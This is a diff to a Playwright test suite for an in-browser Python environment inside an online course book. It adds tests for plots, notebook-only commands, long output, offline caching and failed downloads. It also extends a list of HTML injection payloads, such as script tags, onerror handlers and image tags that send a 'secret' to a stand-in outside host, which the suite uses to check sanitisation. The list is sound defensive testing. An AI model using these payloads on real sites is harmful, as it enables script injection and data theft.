@@ -4,7 +4,9 @@
 """
 
 import json
+import os
 import re
+import shutil
 import subprocess
 
 import nbformat
@@ -164,6 +166,11 @@ def test_an_edited_cell_shows_what_it_gives(running):
     output = running.run(2, "import matplotlib.pyplot as plt\nplt.plot([1, 2]);")
     assert output.locator("svg").evaluate("s => s.getBoundingClientRect().width > 300")
     assert output.locator("svg path").count() > 10
+    shows = "plt.plot([1]); plt.show(); print('then'); plt.plot([2]); plt.show()"
+    output = running.run(2, shows)
+    kinds = output.locator(".output").evaluate_all("all => all.map(e => e.className)")
+    assert ["stream" in kind for kind in kinds] == [False, True, False]
+    assert output.locator("svg").count() == 2
     output = running.run(2, "olc.Listing(olc.Perceptron)")
     assert output.locator("pre").inner_text().startswith("class Perceptron(Linear):")
 
@@ -197,6 +204,38 @@ def test_an_error_begins_with_its_message(running):
     assert output.locator(".olc-error").inner_text().startswith("SyntaxError")
 
 
+@pytest.mark.parametrize(
+    ("code", "words"),
+    [
+        ("name = input('Who? ')", "input() cannot wait for an answer on this page"),
+        (
+            "%timeit sum(range(9))",
+            "is a command of Jupyter, not Python. To time a line",
+        ),
+        ("!pip list", "is a command of Jupyter, not Python"),
+        ("import ipywidgets", "olc.widgets.explore(draw, n=range(9)) has sliders"),
+    ],
+)
+def test_what_only_a_notebook_has_is_answered_in_a_sentence(running, code, words):
+    message = running.run(2, code).locator(".olc-error").inner_text().split("\n")[0]
+    assert words in message
+
+
+def test_many_printed_lines_are_shown_together_in_a_box_that_scrolls(running):
+    running.page.evaluate(
+        """() => {
+          window.shown = 0;
+          document.addEventListener("toggle", () => (shown += 1), true);
+        }"""
+    )
+    output = running.run(2, "for i in range(3000):\n    print(i)")
+    assert output.inner_text().split() == [str(i) for i in range(3000)]
+    assert running.page.evaluate("shown") < 300  # the page measured its boxes so often
+    box = output.locator(".stream pre")
+    assert box.evaluate("b => b.clientHeight < 600 && b.scrollHeight > 20000")
+    expect(box).to_have_attribute("tabindex", "0")
+
+
 INJECTIONS = [
     "<script>window.pwned = 1</script>",
     "<img src=x onerror='window.pwned = 1'>",
@@ -214,6 +253,8 @@ INJECTIONS = [
     "<link rel='stylesheet' href='https://stranger.invalid/x.css'>",
     "<img src='https://stranger.invalid/?secret'>",
     "<img src='//stranger.invalid/?secret'>",
+    r"<img src='/\stranger.invalid/?secret'>",
+    r"<img src='\\stranger.invalid/?secret'>",
     "<form action='https://stranger.invalid/'><button class='bait'>x</button></form>",
     "<math><mtext><img src=x onerror='window.pwned = 1'></mtext></math>",
     "<figure class='olc-explorer'><div class='olc-controls' hidden></div><div class="
@@ -307,6 +348,7 @@ def test_a_link_is_shown_and_never_runs_by_itself(running, tab, site):
     address = running.page.url
     running.cell(4).get_by_role("button", name="Reset").click()
     running.page.evaluate("history.replaceState(null, '', location.pathname)")
+    tab.bring_to_front()
     tab.goto(address)
     expect(tab.locator(".olc-live")).to_contain_text("does not run by itself")
     linked = Live(tab).press()
@@ -357,9 +399,9 @@ def test_an_endless_loop_is_stopped_and_python_starts_again(running):
     running.wait("is ready")
     assert "NameError" in running.run(2, "limits").inner_text()
     running.cell(2).get_by_role("button", name="Reset").click()
-    running.cell(3).get_by_role("button", name="Run all above").click()
+    running.cell(4).get_by_role("button", name="Run all above").click()
     running.wait("Ready.")
-    assert running.run(3, "limits.shape").inner_text().strip() == "(8, 7)"
+    assert running.run(4, "limits.shape").inner_text().strip() == "(8, 7)"
 
 
 def test_where_the_host_isolates_its_pages_stop_keeps_the_state(tab):
@@ -378,6 +420,62 @@ def test_where_the_host_isolates_its_pages_stop_keeps_the_state(tab):
         isolated.wait("has failed: KeyboardInterrupt")
         assert isolated.run(2, "kept").inner_text().strip() == "1"
         tab.close()
+
+
+# --- without a network ----------------------------------------------------------------
+
+
+@pytest.fixture
+def copied(tmp_path):
+    """A copy of the site that a test may change."""
+    return shutil.copytree(book.HTML, tmp_path / "site", copy_function=os.link)
+
+
+def test_a_second_visit_needs_no_network_until_there_is_a_new_edition(tab, copied):
+    page = f"book/{CHAPTER}.html"
+    stores = "caches.keys().then((names) => names.length)"
+    with serving(copied, "/course/") as (address, _):
+        tab.goto(address + page)
+        Live(tab).press().wait("Ready.")
+    # The server has gone; the page, its formulas and Python are still there.
+    tab.goto(address + page)
+    assert tab.locator("mjx-container").count() > 10
+    Live(tab).press().wait("Ready.")
+    assert tab.evaluate(stores) == 1
+    (old,) = copied.glob("_static/live-*")
+    old.rename(old.with_name("live-new"))
+    port = int(address.split(":")[2].split("/")[0])
+    with serving(copied, "/course/", port=port):
+        tab.goto(address + page)
+        tab.wait_for_function(f"{stores}.then((number) => number === 0)")
+        registered = "navigator.serviceWorker.getRegistration()"
+        tab.goto(address + page)
+        assert tab.evaluate(f"{registered}.then((one) => !one)")
+
+
+def test_a_broken_download_says_so_and_can_be_tried_again(tab, copied):
+    (folder,) = copied.glob("_static/live-*")
+    wheel = next(folder.glob("matplotlib-*.whl"))
+    wheel.rename(folder / "away")
+    with serving(copied) as (address, _):
+        tab.goto(f"{address}book/{CHAPTER}.html")
+        broken = Live(tab).press().wait("Python has failed")
+        (folder / "away").rename(wheel)
+        tab.get_by_role("button", name="Try again").click()
+        broken.wait("Ready.")
+        expect(tab.get_by_role("button", name="Try again")).to_be_hidden()
+
+
+def test_a_download_that_stands_still_says_so(browser, site):  # noqa: F811
+    # What a service worker asks for, Playwright would not hold back.
+    tab = browser.new_context(service_workers="block").new_page()
+    tab.context.route("**/*.whl", lambda asked: None)  # nobody answers
+    tab.goto(f"{site[0]}book/{CHAPTER}.html")
+    Live(tab).press().wait("Nothing has come for 8 seconds. Is the network gone?")
+    tab.context.unroute("**/*.whl")
+    tab.get_by_role("button", name="Try again").click()
+    Live(tab).wait("Ready.")
+    tab.context.close()
 
 
 def test_a_heavy_chapter_says_so_and_waits(browser, site):  # noqa: F811
